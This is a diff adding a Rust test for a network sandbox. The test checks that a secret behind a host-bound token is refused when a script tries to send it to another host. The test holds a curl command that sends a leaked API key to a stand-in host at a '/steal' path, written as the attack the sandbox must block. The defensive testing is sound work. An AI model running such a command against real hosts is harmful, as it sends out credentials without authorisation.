@@ -113,3 +113,90 @@ fn the_example_agent_server_runs_parallel_tool_calls_in_one_sandbox() {
         .count();
     assert_eq!(starts, 3, "one start line per tool call:\n{log}");
 }
+
+/// A token handed to the builder already sealed: the sandbox opens it at start, so the real
+/// value is guarded from the first request on. A command that got hold of the value (here
+/// through a variable) cannot send it to a host the token is not bound to.
+#[test]
+fn a_value_behind_a_token_handed_in_is_refused_for_other_hosts() {
+    if let Some(why) = skip_reason() {
+        eprintln!("SKIPPED: {why}");
+        return;
+    }
+    common::ca::install_crypto_provider();
+    let ca = TestCa::new();
+    let up = Upstream::start(&ca, &["api.test", "other.test"]);
+    let env = TestEnv::new();
+    let token = env.seal(SECRET, &["api.test"]);
+    let audit_path = env.root().join("audit.jsonl");
+    let script = "curl -sS -w '\\n%{http_code}' -H \"X-Api-Key: $LEAKED\" \"$1\"";
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let outputs = rt.block_on(async {
+        let audit = Arc::new(AuditLog::open(audit_path.to_str().unwrap()).unwrap());
+        let sandbox = Sandbox::builder()
+            .data_dir(env.data_dir())
+            .netcage_binary(env!("CARGO_BIN_EXE_netcage"))
+            .resolve("api.test", IpAddr::V4(Ipv4Addr::LOCALHOST))
+            .resolve("other.test", IpAddr::V4(Ipv4Addr::LOCALHOST))
+            .upstream_ca(ca.cert_der())
+            .env_clear()
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+            .env("LEAKED", SECRET)
+            .token("API_TOKEN", &token)
+            .audit(audit.clone())
+            .start()
+            .await
+            .expect("the sandbox starts");
+        let mut outputs = Vec::new();
+        for url in [up.url("other.test", "/steal"), up.url("api.test", "/own")] {
+            let out = sandbox
+                .command("sh")
+                .args(["-c", script, "sh", &url])
+                .stdout(netcage::Stdio::Piped)
+                .spawn()
+                .await
+                .expect("the command starts")
+                .wait_with_output()
+                .await
+                .expect("the command ends");
+            outputs.push(String::from_utf8_lossy(&out.stdout).into_owned());
+        }
+        sandbox.shutdown(Duration::from_secs(1)).await;
+        audit.flush();
+        outputs
+    });
+
+    let (body, code) = outputs[0].rsplit_once('\n').expect("body then status");
+    assert_eq!(code, "403", "{}", outputs[0]);
+    let json: Value = serde_json::from_str(body).unwrap();
+    assert_eq!(
+        json["fingerprint"],
+        netcage::token::fingerprint(&token),
+        "{json}"
+    );
+    assert_eq!(
+        json["bound_hosts"],
+        serde_json::json!(["api.test"]),
+        "{json}"
+    );
+    assert!(outputs[1].ends_with("\n200"), "{}", outputs[1]);
+    let got = up.wait_for_requests(1, Duration::from_secs(10));
+    let paths: Vec<&str> = got.iter().map(|r| r.path()).collect();
+    assert_eq!(paths, ["/own"], "nothing reached other.test");
+    assert_eq!(got[0].header_str("x-api-key").as_deref(), Some(SECRET));
+    let log = std::fs::read_to_string(&audit_path).unwrap();
+    assert!(
+        !log.contains(SECRET),
+        "the audit log never holds the secret"
+    );
+    let line: Value = log
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|l| l["path"] == "/steal")
+        .unwrap_or_else(|| panic!("no audit line for /steal:\n{log}"));
+    assert_eq!(line["decision"], "block", "{line}");
+    assert_eq!(line["tokens"][0]["where"], "header:x-api-key", "{line}");
+}
